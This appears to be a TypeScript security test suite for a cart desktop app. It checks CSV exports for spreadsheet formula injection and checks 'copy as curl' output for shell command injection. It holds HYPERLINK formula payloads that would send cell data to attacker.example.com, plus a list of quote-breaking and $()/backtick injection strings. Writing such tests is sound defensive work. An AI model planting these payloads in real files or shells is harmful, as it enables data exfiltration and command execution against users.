import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { chmod, mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { setTimeout as delay } from 'node:timers/promises';
import { promisify } from 'node:util';
import Papa from 'papaparse';
import { EMPTY_DRAFT } from '@core/carts/carts';
import { askBridge } from '../../e2e/desk/ask-bridge';
import { chooseFile } from '../../e2e/desk/file-dialogs';
import type { Desk } from '../../e2e/desk/open-desk';
import { startPractice } from '../../e2e/practice';
import { type Attack, heldUnless } from './attack';

/*
 * What a person takes out of the desk and gives to another program: sheets, and commands for a shell.
 */

const ACCOUNT = 'practice-lab';

/** Opens a file of someone else with carts of these names and recipients; gives the ids of the carts. */
async function openFile(
  { running }: Desk,
  carts: readonly { readonly name: string; readonly recipient: string }[],
): Promise<string[]> {
  const file = {
    ...{ format: 'proofdesk-cart', version: 1, products: [] },
    carts: carts.map(({ name, recipient }, index) => ({
      ...{
        kind: 'editors',
        id: `foreign-${index}`,
        name,
        note: '',
        copiedFrom: null,
        edits: [],
        pictures: [],
      },
      draft: {
        ...EMPTY_DRAFT,
        editors: [{ editorId: 'e-1', quantity: 1, orderAttributes: null }],
        shipTo: { ...EMPTY_DRAFT.shipTo, name: recipient },
      },
    })),
  };
  const opened = await askBridge(running.page, 'cart-files:open', {
    ...{ accountId: ACCOUNT, text: JSON.stringify(file), places: carts.map((_cart, index) => index) },
  });
  return opened.carts.map(({ id }) => id);
}

const CALL = 'HYPERLINK("https://attacker.example.com/?"&A1)';

/** Texts that are a formula to some spreadsheet: by themselves, in full width, or where it separates cells elsewhere. */
const FORMULAS = [
  `=${CALL}`,
  `+${CALL}`,
  `-1+${CALL}`,
  `@${CALL}`,
  `＝${CALL}`,
  `  =${CALL}`,
  `x;=${CALL}`,
  `x\t=${CALL}`,
];

/** The cells of a sheet that a spreadsheet with this separator computes. */
const formulasIn = (sheet: string, delimiter: string): string[] =>
  Papa.parse<string[]>(sheet.replace(/^\ufeff/, ''), { delimiter })
    .data.flat()
    .filter((cell) => /^[\s"]*[=+\-@＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));

/** What is put where a shell may take it for its own words; each makes a file `ran` in the folder where it runs. */
const COMMANDS = [`'; : > ran; '`, '$(: > ran)', '`: > ran`', `"; : > ran; "`, `' || : > ran || '`];

export const ATTACKS: readonly Attack[] = [
  {
    name: 'sheet-holds-a-formula',
    actor: 'foreign file',
    attempt:
      'A cart file has names that are formulas, which reach the author of the file from the list that is saved as CSV.',
    async run(target) {
      const desk = await target.open(await startPractice());
      await openFile(
        desk,
        FORMULAS.map((formula) => ({ name: formula, recipient: formula })),
      );
      const path = await chooseFile(desk.running, 'carts.csv');
      const saved = await askBridge(desk.running.page, 'lists:export', {
        ...{ list: 'carts', accountId: ACCOUNT, search: '', filter: 'all', sort: 'name', descending: false },
        ...{ selected: null, title: 'Carts', currency: 'Currency' },
        columns: (['name', 'recipient', 'total'] as const).map((key) => ({ key, title: key })),
      });
      const sheet = await readFile(path, 'utf8');
      if (saved?.count !== FORMULAS.length || !sheet.includes('HYPERLINK'))
        throw new Error(`The sheet does not hold what was to be tried: ${sheet}`);
      const found = [',', ';', '\t', '|'].flatMap((delimiter) => formulasIn(sheet, delimiter));
      return heldUnless(found, `${FORMULAS.length} names are in the sheet, and none is a formula`);
    },
  },
  {
    name: 'copied-command-runs-another',
    actor: 'foreign file',
    attempt:
      'A cart file has a recipient whose name is a command, and a person copies the request that held it into a shell.',
    async run(target) {
      const desk = await target.open(await startPractice());
      const { page, app, profile } = desk.running;
      const work = join(profile, 'shell');
      await mkdir(work);
      // In place of curl, and of nothing else: a command is as harmful where there is no network.
      const curl = join(work, 'curl');
      await writeFile(curl, '#!/bin/sh\nprintf "%s\\n" "$@" >> asked\n');
      await chmod(curl, 0o755);
      const ids = await openFile(
        desk,
        COMMANDS.map((command, index) => ({ name: `Cart ${index}`, recipient: command })),
      );
      // The lab refuses editors that it does not have; the request is in the list all the same.
      for (const id of ids)
        await askBridge(page, 'carts:export', { id, anyway: true }).catch(() => undefined);
      const requests = async (): Promise<string[]> => {
        const { rows } = await askBridge(page, 'activity:list', { limit: 100, offset: 0 });
        return rows.filter(({ purpose }) => purpose === 'export').map(({ id }) => id);
      };
      // They are written to the list a moment later.
      for (let tries = 0; tries < 50 && (await requests()).length < COMMANDS.length; tries += 1)
        await delay(100);
      const evidence: string[] = [];
      for (const id of await requests()) {
        await askBridge(page, 'activity:copy-as-curl', { id });
        const copied = await app.evaluate(({ clipboard }) => clipboard.readText());
        if (!copied.includes(': > ran'))
          throw new Error(`The command does not hold what was to be tried: ${copied}`);
        // What it ends with does not matter: a command that was cut short may have run the other before.
        await promisify(execFile)('bash', ['--norc', '-c', copied], {
          cwd: work,
          env: { PATH: `${work}:/usr/bin:/bin`, PROOFDESK_KEY: 'a-key' },
        }).catch(() => undefined);
        if (existsSync(join(work, 'ran'))) evidence.push(`another command ran: ${copied.slice(-80)}`);
      }
      const asked = await readFile(join(work, 'asked'), 'utf8').catch(() => '');
      const count = asked.split('\n').filter((line) => line === '-X').length;
      if (evidence.length === 0 && count !== COMMANDS.length)
        throw new Error(`${count} of ${COMMANDS.length} commands asked anything`);
      return heldUnless(evidence, `${count} commands were run, and curl alone with each`);
    },
  },
];
